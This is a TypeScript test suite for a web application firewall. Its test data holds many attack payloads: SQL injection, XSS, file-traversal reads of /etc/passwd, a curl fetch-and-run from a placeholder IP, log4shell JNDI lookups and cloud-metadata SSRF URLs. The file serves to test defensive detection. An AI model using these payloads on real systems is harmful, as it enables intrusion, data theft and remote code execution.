/**
 * The waf policy's decisions, request by request (no server: the end-to-end
 * behaviour over sockets is in test/e2e/waf.test.ts). Every attack is tried
 * in several encodings a client could send; every detector has benign
 * look-alikes that must pass.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import waf from './index.js';
import { detectLdap } from './detectors/ldap.js';
import { compilePolicy, decide, requestContext, type FakeRequest } from '../../../test/helpers/policy.js';
import type { Deny } from '../../pipeline/decision.js';

const p1 = compilePolicy(waf, {});
const p2 = compilePolicy(waf, { paranoia: 2 });

async function verdict(request: FakeRequest, instance = p1): Promise<Deny | undefined> {
  return (await decide(instance, requestContext(request))) ?? undefined;
}

const inQuery = (value: string): FakeRequest => ({ path: '/search', query: `q=${encodeURIComponent(value)}` });
/** The same payload the way clients smuggle it: as is, URL-encoded twice, HTML entities, JSON unicode escapes, upper case. */
function encodings(payload: string): Array<[string, FakeRequest]> {
  const entities = [...payload].map((c) => (/[a-z0-9 ]/i.test(c) ? c : `&#${c.charCodeAt(0)};`)).join('');
  const unicode = [...payload].map((c) => (/[<>'"();=/]/.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c)).join('');
  return [
    ['plain', inQuery(payload)],
    ['double URL-encoded', { path: '/search', query: `q=${encodeURIComponent(encodeURIComponent(payload))}` }],
    ['HTML entities', inQuery(entities)],
    ['JSON unicode escapes', inQuery(unicode)],
    ['upper case', inQuery(payload.toUpperCase())],
    ['in a JSON body', { path: '/items', body: JSON.stringify({ note: payload }), headers: { 'content-type': 'application/json' } }],
  ];
}

async function assertBlocked(payload: string, rulePrefix: string, options: { encodings?: boolean } = {}): Promise<void> {
  const cases = options.encodings === false ? [['plain', inQuery(payload)] as [string, FakeRequest]] : encodings(payload);
  for (const [how, request] of cases) {
    if (how === 'upper case' && /[a-z]/.test(payload) && rulePrefix === 'lfi') continue; // paths are case-sensitive on Unix
    const result = await verdict(request);
    assert.ok(result, `${JSON.stringify(payload)} (${how}) should be blocked`);
    assert.equal(result.status, 403);
    assert.equal(result.code, 'request_blocked');
    if (how === 'plain') assert.ok(String(result.event?.data?.rule).startsWith(rulePrefix), `${JSON.stringify(payload)} matched ${String(result.event?.data?.rule)}, not ${rulePrefix}`);
  }
}

async function assertPasses(value: string, instance = p1): Promise<void> {
  for (const request of [inQuery(value), { path: '/items', body: JSON.stringify({ text: value }), headers: { 'content-type': 'application/json' } }]) {
    const result = await verdict(request, instance);
    assert.equal(result, undefined, `${JSON.stringify(value)} should pass, but ${String(result?.event?.data?.rule)} matched`);
  }
}

describe('waf: SQL injection', () => {
  it('blocks tautologies, unions, stacked queries, time delays and comment truncation', async () => {
    for (const payload of [
      "' OR '1'='1",
      "admin'--",
      '1 OR 1=1',
      '1) or (1=1',
      '-1 UNION SELECT username, password FROM users',
      "x'; DROP TABLE users; --",
      "1' AND SLEEP(5)#",
      '1 AND (SELECT 1 FROM information_schema.tables)',
      "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    ]) {
      await assertBlocked(payload, 'sqli');
    }
  });

  it('sees through comments, mixed case and MySQL executable comments', async () => {
    // "un/**/ion" is two words to SQL, but one to a filter that strips comments before the query is built
    for (const payload of ['1/**/UnIoN/**/SeLeCt/**/1,2', '1/*!50000union*/ /*!50000select*/ 1', "x'/**/oR/**/'a'='a", '1 un/**/ion se/**/lect 1']) {
      const result = await verdict(inQuery(payload));
      assert.equal(result?.event?.data?.rule, 'sqli.tokens', payload);
    }
  });

  it('blocks tautologies, concatenation probes, quote-balancing bypasses and hex-encoded statements', async () => {
    for (const payload of [
      ') or (a=a',
      'hi or x=x--',
      "; or '1'='1'",
      "a'+'b",
      "x'||'y",
      "admin' #",
      "admin' or '",
      "' or 1 --'",
      '1\nand current_user=foo',
      'FOO,IIF(2510=9436,FOO,1/0)',
      "; execute immediate 'sel' || 'ect us' || 'er'",
      "DECLARE @S NVARCHAR(4000);SET @S=CAST(0x77616974666F722064656C61792027303A303A313027 AS VARCHAR(4000));EXEC(@S)",
      'uni/**/on sel/**/ect 1,2',
    ]) {
      await assertBlocked(payload, 'sqli');
    }
  });

  it('lets names, sentences and search terms with SQL words through', async () => {
    for (const value of [
      "O'Brien",
      "Rock 'n' roll",
      'select a plan',
      'Select the plan that fits, or drop us a line',
      '2 OR 4 METAL BUTTONS',
      "it's fine -- really",
      'SELECT x FROM y WHERE',
      'Tom & Jerry; a union of friends',
      '24-7-TEAM',
      '1950 UNION MADE',
      'Case for Kindle with keyboard',
      // look-alikes of the tautology, concatenation, quote and function rules
      'either a or b=c',
      'RECLAIMED WOOD" + "SIGN" + "PRIMITIVE"',
      'SMALL "+" SIGN',
      "BAMBOO CHARCOAL SOAP 1 '#",
      "the kids' #1 fan",
      "select 'and'",
      '1990--2000',
      'step 1 --> step 2',
      'Sleep (8 hours)',
      'Database (PostgreSQL), version (16.2)',
      'run the benchmark (see below)',
      '0x52908400098527886E0F7030069857D2E4169EE7',
      '/* a comment */ hello',
      '오브라이언 씨, 플랜을 선택하세요 (select a plan)',
      'يرجى اختيار خطة (select a plan) أو إلغاء',
    ]) {
      await assertPasses(value);
    }
  });

  it('passes SQL-looking code samples in JSON strings', async () => {
    const body = {
      js: 'if (res.statusCode >= 400) { return next(err); }',
      ast: "if (node.type == 'Literal' || node.type == 'TemplateLiteral') visit(node);",
      docs: '- [Benchmark](#benchmark)',
      shell_doc: 'exports.handler = function () { return sleep(ms); };',
    };
    assert.equal(await verdict({ path: '/j', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }), undefined);
  });
});

describe('waf: cross-site scripting', () => {
  it('blocks script tags, event handlers, script URIs and sinks in every encoding', async () => {
    await assertBlocked('<script>alert(1)</script>', 'xss');
    await assertBlocked('<img src=x onerror=alert(1)>', 'xss');
    await assertBlocked('<svg/onload=confirm(1)>', 'xss');
    await assertBlocked('"><iframe src=javascript:alert(1)>', 'xss');
    await assertBlocked('" onmouseover="alert(document.cookie)', 'xss');
    await assertBlocked('javascript:alert(1)', 'xss');
  });

  it('sees through tabs in javascript: and full-width brackets', async () => {
    assert.ok(await verdict(inQuery('java\tscript:alert(1)')));
    assert.ok(await verdict(inQuery('＜script＞alert(1)＜/script＞')));
  });

  it('lets prose, code samples and markup-free text through', async () => {
    for (const value of [
      'I <3 this product',
      'JavaScript: The Good Parts (2008)',
      'Use the onload event when the page loads',
      'x < y and y > z',
      'console.log("hello, world");',
      '{"snippet": "function add(a, b) { return a + b; }"}',
      '안녕하세요, 주문 확인 부탁드립니다',
      'مرحبا، أود تأكيد طلبي من فضلك',
    ]) {
      await assertPasses(value);
    }
  });
});

describe('waf: path traversal and file inclusion', () => {
  it('blocks traversal, sensitive files and stream wrappers', async () => {
    await assertBlocked('../../../../etc/passwd', 'lfi');
    await assertBlocked('..\\..\\windows\\win.ini', 'lfi');
    await assertBlocked('/etc/shadow', 'lfi');
    await assertBlocked('php://filter/convert.base64-encode/resource=index.php', 'lfi');
    assert.equal((await verdict({ path: '/files', query: 'name=..%252f..%252fetc%252fpasswd' }))?.event?.data?.rule, 'lfi.traversal');
    assert.equal((await verdict({ path: '/files', query: 'name=report.pdf%00.jpg' }))?.event?.data?.rule, 'lfi.null-byte');
  });

  it('blocks traversal hidden in the path itself', async () => {
    // %252e: the gateway's normalization leaves %2e, an upstream that decodes again sees "."
    const result = await verdict({ path: '/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd' });
    assert.ok(result);
  });

  it('lets relative names and ordinary paths through', async () => {
    for (const value of ['docs/getting-started.md', 'v1.2..v1.3', 'Wait... what?', 'images/logo.png', 'etc.']) await assertPasses(value);
  });
});

describe('waf: command injection', () => {
  it('blocks commands after separators, in substitutions and with shell evasions', async () => {
    for (const payload of ['; cat /etc/passwd', '| id', '127.0.0.1 && whoami', '`id`', '$(curl http://203.0.113.9/x.sh)', ';c\'a\'t${IFS}/etc/passwd', '; w\\ho\\am\\i', "system('id')"]) {
      const result = await verdict(inQuery(payload));
      assert.ok(result, payload);
      const category = String(result.event?.data?.rule).split('.')[0] ?? '';
      assert.ok(['rce', 'lfi'].includes(category), `${payload}: ${String(result.event?.data?.rule)}`);
    }
  });

  it('lets ampersands, semicolons and command names in prose through', async () => {
    for (const value of ['Tom & Jerry', 'R&D; cat videos', 'salt & pepper', 'Dogs; cats; birds', 'like `chown -R` but for ACLs', 'python & django developer']) await assertPasses(value);
  });

  it('reads a Shellshock function only at the start of a value, where bash imports one', async () => {
    await assertBlocked('() { :; }; /usr/bin/id', 'rce', { encodings: false });
    for (const value of ['function () { return 1; }', 'server.listen(3000, function () {', 'constructor() {}']) await assertPasses(value);
  });
});

describe('waf: LDAP filter injection', () => {
  it('blocks filters that close the application\'s assertion or match every entry', async () => {
    for (const payload of ['*)(uid=*))(|(uid=*', '*(|(objectclass=*))', 'admin)(&)', 'x)(|(cn=*)', '*)(userPassword=*)', 'jdoe)(!(memberOf=cn=x))(|(a=*']) {
      await assertBlocked(payload, 'ldap');
    }
  });

  it('lets parentheses in prose, code and smileys through', async () => {
    for (const value of ['(see note)(2)', 'if(!(e=t.call(n)))return', 'memcpy(&(a=b), c, 4)', 'f(a)(b=2)', 'great :-)(really)', 'cost (USD) = 5 (approx.)', '(주문)(배송=완료)']) {
      await assertPasses(value);
    }
  });

  it('reads an extensible-match attribute within a bounded window (a long ")(a:" run is linear work)', () => {
    // Quadratic before: every "(" searched the rest of the value for ":=" (400 KB took minutes, not milliseconds).
    assert.equal(detectLdap(')(a:'.repeat(100_000) + '='), undefined);
    assert.equal(detectLdap('x)(cn:caseExactMatch:=*)')?.id, 'ldap.filter-injection');
  });
});

describe('waf: template, expression and JNDI injection', () => {
  it('blocks template probes and runtime access', async () => {
    for (const payload of ['{{7*7}}', "${T(java.lang.Runtime).getRuntime().exec('id')}", "{{''.__class__.__mro__[1].__subclasses__()}}", '<%= 7*7 %>', '{{config.items()}}']) {
      const rule = String((await verdict(inQuery(payload)))?.event?.data?.rule);
      assert.ok(rule === 'ssti.expression' || rule === 'rce.code-call', `${payload}: ${rule}`);
    }
  });

  it('names where it found the attack: the query parameter, the parameter name, the path, the body field', async () => {
    // a plain pair (no escape, "+" or bracket) and an encoded one are read by different paths of the query reader
    assert.equal((await verdict({ path: '/s', query: 'page=2&q=<script>alert(1)</script>' }))?.event?.data?.target, 'query:q');
    assert.equal((await verdict({ path: '/s', query: 'page=2&q=%3Cscript%3Ealert(1)%3C/script%3E' }))?.event?.data?.target, 'query:q');
    assert.equal((await verdict({ path: '/s', query: '<script>alert(1)</script>=1' }))?.event?.data?.target, 'query:<script>alert(1)</script>');
    assert.equal((await verdict({ path: '/s', query: 'page=2&<script>alert(1)</script>' }))?.event?.data?.target, 'query:<script>alert(1)</script>');
    assert.equal((await verdict({ path: '/a/%3Cscript%3Ealert(1)%3C%2Fscript%3E' }))?.event?.data?.target, 'path');
    const body = await verdict({ method: 'POST', path: '/a', headers: { 'content-type': 'application/json' }, body: '{"user":{"bio":"<script>alert(1)</script>"}}' });
    assert.equal(body?.event?.data?.target, 'body:user.bio');
    // the same rule matched in two places counts once: 5, under a threshold of 6
    const once = compilePolicy(waf, { threshold: 6 });
    assert.equal(await verdict({ path: '/s', query: 'a=<script>alert(1)</script>&b=<script>alert(2)</script>' }, once), undefined);
    assert.equal((await verdict({ path: '/s', query: 'a=<script>alert(1)</script>&b=../../etc/passwd' }, once))?.event?.data?.score, 10);
  });

  it('finds log4shell in any header, obfuscated', async () => {
    for (const payload of ['${jndi:ldap://203.0.113.9/a}', '${${lower:j}ndi:ldap://x/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}']) {
      const result = await verdict({ path: '/', headers: { 'x-api-version': payload } });
      assert.equal(result?.event?.data?.rule, 'ssti.jndi', payload);
      assert.equal(result?.event?.data?.target, 'header:x-api-version');
    }
  });

  it('lets mustache-style placeholders and prices through', async () => {
    for (const value of ['Hello {{name}}, your order {{order.id}} shipped', 'Total: ${amount}', 'costs $5 {approx}']) await assertPasses(value);
  });
});

describe('waf: SSRF and remote inclusion in URL-valued parameters', () => {
  it('blocks metadata, loopback and SSRF-only schemes in every spelling', async () => {
    const cases: Array<[string, string]> = [
      ['http://169.254.169.254/latest/meta-data/', 'ssrf.metadata'],
      ['http://metadata.google.internal/computeMetadata/v1/', 'ssrf.metadata'],
      ['http://[fd00:ec2::254]/', 'ssrf.metadata'],
      ['http://127.0.0.1:6379/', 'ssrf.loopback'],
      ['http://2130706433/', 'ssrf.loopback'],
      ['http://0x7f.1/', 'ssrf.loopback'],
      ['http://[::ffff:127.0.0.1]/', 'ssrf.loopback'],
      ['http://example.com@127.0.0.1/', 'ssrf.loopback'],
      ['http://127.0.0.1.nip.io/', 'ssrf.loopback'],
      ['gopher://10.0.0.5:6379/_FLUSHALL', 'ssrf.scheme'],
      ['http://203.0.113.9/shell.txt?', 'rfi.ip-url'],
    ];
    for (const [url, rule] of cases) assert.equal((await verdict({ path: '/fetch', query: `url=${encodeURIComponent(url)}` }))?.event?.data?.rule, rule, url);
  });

  it('blocks names made to resolve to loopback or metadata addresses, even bare, and ports no parser agrees on', async () => {
    const cases: Array<[string, string]> = [
      ['127.0.0.1.nip.io', 'ssrf.loopback'],
      ['app.169.254.169.254.sslip.io', 'ssrf.metadata'],
      ['localtest.me', 'ssrf.loopback'],
      ['customer1.app.lvh.me', 'ssrf.loopback'],
      ['localhost:+11211aaa', 'ssrf.loopback'],
      ['127.0.0.1:0011211', 'ssrf.loopback'],
      ['http://example.com.127.0.0.1/', 'ssrf.loopback'],
    ];
    for (const [value, rule] of cases) assert.equal((await verdict({ path: '/fetch', query: `host=${encodeURIComponent(value)}` }))?.event?.data?.rule, rule, value);
  });

  it('lets bare settings (localhost, 127.0.0.1, a port, a MAC address) through at paranoia 1', async () => {
    for (const value of ['localhost', '127.0.0.1', 'localhost:8080', 'app.10.0.0.1.nip.io', 'fc:1f:f3:f8:22:c1', 'example.com.1.2.3.4']) await assertPasses(value);
    assert.equal(await verdict(inQuery('fc:1f:f3:f8:22:c1'), p2), undefined, 'a MAC address is no IPv6 address');
  });

  it('lets ordinary URLs through at paranoia 1 and scores off-domain ones at 2', async () => {
    await assertPasses('https://partner.example.org/callback?x=1');
    const strict = await verdict({ path: '/fetch', query: `url=${encodeURIComponent('https://partner.example.org/')}` }, p2);
    assert.equal(strict, undefined, 'an off-domain URL alone scores 3, below the threshold');
  });
});

describe('waf: prototype pollution', () => {
  it('blocks __proto__ and constructor.prototype in JSON keys and query names', async () => {
    assert.equal((await verdict({ path: '/p', body: '{"user":{"__proto__":{"admin":true}}}', headers: { 'content-type': 'application/json' } }))?.event?.data?.rule, 'proto.proto-key');
    assert.equal((await verdict({ path: '/p', query: 'a[__proto__][admin]=1' }))?.event?.data?.rule, 'proto.proto-key');
    assert.equal((await verdict({ path: '/p', query: 'constructor[prototype][admin]=1' }))?.event?.data?.rule, 'proto.constructor-prototype');
    assert.equal((await verdict({ path: '/p', query: 'class.module.classLoader.URLs[0]=0' }))?.event?.data?.rule, 'proto.class-loader');
  });

  it('lets a "prototype" or "constructor" field alone through', async () => {
    assert.equal(await verdict({ path: '/p', body: '{"prototype":"v2","constructor":"ACME Builders"}', headers: { 'content-type': 'application/json' } }), undefined);
  });
});

describe('waf: bodies', () => {
  it('reads form and multipart fields, and multipart file names', async () => {
    assert.ok(await verdict({ path: '/f', body: 'name=x&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E', headers: { 'content-type': 'application/x-www-form-urlencoded' } }));
    const multipart = ['--B', 'Content-Disposition: form-data; name="title"', '', "1' OR '1'='1", '--B', 'Content-Disposition: form-data; name="file"; filename="a.png"', 'Content-Type: image/png', '', '<script>not inspected: file content</script>', '--B--', ''].join('\r\n');
    assert.equal((await verdict({ path: '/u', body: multipart, headers: { 'content-type': 'multipart/form-data; boundary=B' } }))?.event?.data?.target, 'body:title');
    const upload = multipart.replace("1' OR '1'='1", 'holiday photos');
    assert.equal(await verdict({ path: '/u', body: upload, headers: { 'content-type': 'multipart/form-data; boundary=B' } }), undefined, 'file contents are not inspected');
    const traversal = upload.replace('filename="a.png"', 'filename="../../etc/cron.d/x"');
    assert.equal((await verdict({ path: '/u', body: traversal, headers: { 'content-type': 'multipart/form-data; boundary=B' } }))?.event?.data?.rule, 'lfi.traversal');
  });

  it('blocks a JSON body that does not parse, nests too deep or holds too many values', async () => {
    assert.equal((await verdict({ path: '/j', body: '{"a": ', headers: { 'content-type': 'application/json' } }))?.event?.data?.rule, 'protocol.body-parse');
    assert.equal((await verdict({ path: '/j', body: '['.repeat(100) + ']'.repeat(100), headers: { 'content-type': 'application/json' } }))?.event?.data?.rule, 'protocol.body-complexity');
    const many = compilePolicy(waf, { body: { max_values: 10 } });
    assert.ok(await verdict({ path: '/j', body: JSON.stringify(Array.from({ length: 11 }, (_, i) => `v${i}`)), headers: { 'content-type': 'application/json' } }, many));
  });

  it('inspects JSON sent as text/plain, which lenient upstreams still parse', async () => {
    assert.ok(await verdict({ path: '/j', body: '{"q":"1 UNION SELECT password FROM users"}', headers: { 'content-type': 'text/plain' } }));
  });

  it('passes base64, JWTs, Korean and Arabic text, and code samples in JSON strings', async () => {
    const body = {
      avatar: Buffer.from('a picture, honestly; <not html> & no -- comments').toString('base64'),
      token: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl',
      bio_ko: '저는 서울에 사는 개발자입니다. SELECT 문을 자주 씁니다.',
      bio_ar: 'أنا مطور أعيش في القاهرة وأكتب الكثير من الشيفرات',
      snippet: 'const total = items.reduce((sum, i) => sum + i.price, 0); // sum it',
      sql_help: 'Use a WHERE clause to filter rows',
    };
    assert.equal(await verdict({ path: '/j', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } }), undefined);
  });
});

describe('waf: scoring, paranoia and exclusions', () => {
  it('reports the rule, score, target and a redacted, truncated sample in the event', async () => {
    const result = await verdict({ path: '/login', body: JSON.stringify({ user: 'bob', password: "' OR 1=1--" }), headers: { 'content-type': 'application/json' } });
    assert.equal(result?.event?.type, 'waf.sqli');
    assert.equal(result?.event?.data?.target, 'body:password');
    assert.equal(result?.event?.data?.sample, '[redacted]', 'a password is never logged');
    assert.equal(result?.event?.data?.score, 5);
    const long = await verdict(inQuery(`<script>alert(1)</script>${'a'.repeat(500)} 4111111111111111`));
    assert.ok(String(long?.event?.data?.sample).length <= 81);
    const card = await verdict(inQuery('<script>alert(4111111111111111)</script>'));
    assert.ok(!String(card?.event?.data?.sample).includes('4111111111111111'), 'long digit runs are masked');
  });

  it('paranoia 2 adds stricter rules', async () => {
    assert.equal(await verdict(inQuery('1 or 1')), undefined);
    assert.equal((await verdict(inQuery('1 or 1'), p2))?.event?.data?.rule, 'sqli.tokens-strict');
  });

  it('excludes a rule for a parameter, a category for a path, or everything for a target', async () => {
    const tuned = compilePolicy(waf, {
      exclusions: [
        { rules: ['sqli'], targets: ['body:query'] },
        { paths: ['/v1/cms'], rules: ['xss'] },
        { targets: ['header:x-debug'] },
      ],
      inspect: { headers: ['user-agent', 'x-debug'] },
    });
    const sql = { path: '/v1/reports', body: JSON.stringify({ query: 'SELECT * FROM sales UNION SELECT * FROM refunds' }), headers: { 'content-type': 'application/json' } };
    assert.equal(await verdict(sql, tuned), undefined);
    assert.ok(await verdict({ ...sql, body: JSON.stringify({ other: 'SELECT * FROM a UNION SELECT * FROM b' }) }, tuned), 'only body:query is excluded');
    assert.equal(await verdict({ path: '/v1/cms/pages', query: 'html=%3Cscript%3Ex()%3C%2Fscript%3E' }, tuned), undefined);
    assert.ok(await verdict({ path: '/v1/other', query: 'html=%3Cscript%3Ex()%3C%2Fscript%3E' }, tuned));
    assert.equal(await verdict({ path: '/', headers: { 'x-debug': '<script>x()</script>' } }, tuned), undefined);
  });

  it('refuses unknown rule ids and body limits above the gateway buffer at load', () => {
    assert.throws(() => compilePolicy(waf, { disable: ['sqli.nope'] }), /unknown rule or category "sqli.nope"/);
    assert.throws(() => compilePolicy(waf, { exclusions: [{ rules: ['nope'] }] }), /unknown rule or category "nope"/);
    assert.throws(() => compilePolicy(waf, { body: { max_size: '16MiB' } }), /larger than gateway.limits.max_buffered_body/);
  });
});

describe('waf: remembered clean User-Agents', () => {
  const ua = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36';
  const attack = "Mozilla/5.0' UNION SELECT password FROM users--";

  it('inspects every User-Agent that matched anything, however often it comes back', async () => {
    const instance = compilePolicy(waf, {});
    for (let i = 0; i < 3; i++) assert.equal(await verdict({ path: '/items', headers: { 'user-agent': ua } }, instance), undefined);
    for (let i = 0; i < 3; i++) {
      const result = await verdict({ path: '/items', headers: { 'user-agent': attack } }, instance);
      assert.equal(result?.event?.data?.target, 'header:user-agent', `request ${i + 1}`);
    }
  });

  it('does not remember a value an exclusion let through: on a path the exclusion does not cover it is refused', async () => {
    const instance = compilePolicy(waf, { exclusions: [{ paths: ['/open'], targets: ['header:user-agent'] }] });
    for (let i = 0; i < 2; i++) assert.equal(await verdict({ path: '/open', headers: { 'user-agent': attack } }, instance), undefined);
    assert.equal((await verdict({ path: '/items', headers: { 'user-agent': attack } }, instance))?.event?.data?.target, 'header:user-agent');
  });

  it('counts a User-Agent that scored under the threshold on every request (it is never remembered)', async () => {
    const instance = compilePolicy(waf, { threshold: 10 });
    for (let i = 0; i < 3; i++) assert.equal(await verdict({ path: '/items', headers: { 'user-agent': attack } }, instance), undefined);
    // its 5 and the query's 5 reach 10 only if the User-Agent is still inspected
    const result = await verdict({ path: '/items', query: `q=${encodeURIComponent("<script>alert(1)</script>")}`, headers: { 'user-agent': attack } }, instance);
    assert.equal(result?.event?.data?.score, 10);
  });

  it('remembers within bounds: a flood of distinct clean User-Agents, then an attack, is still refused', async () => {
    const instance = compilePolicy(waf, {});
    for (let i = 0; i < 1500; i++) assert.equal(await verdict({ path: '/items', headers: { 'user-agent': `${ua} build/${i}` } }, instance), undefined);
    assert.equal((await verdict({ path: '/items', headers: { 'user-agent': attack } }, instance))?.event?.data?.target, 'header:user-agent');
  });
});
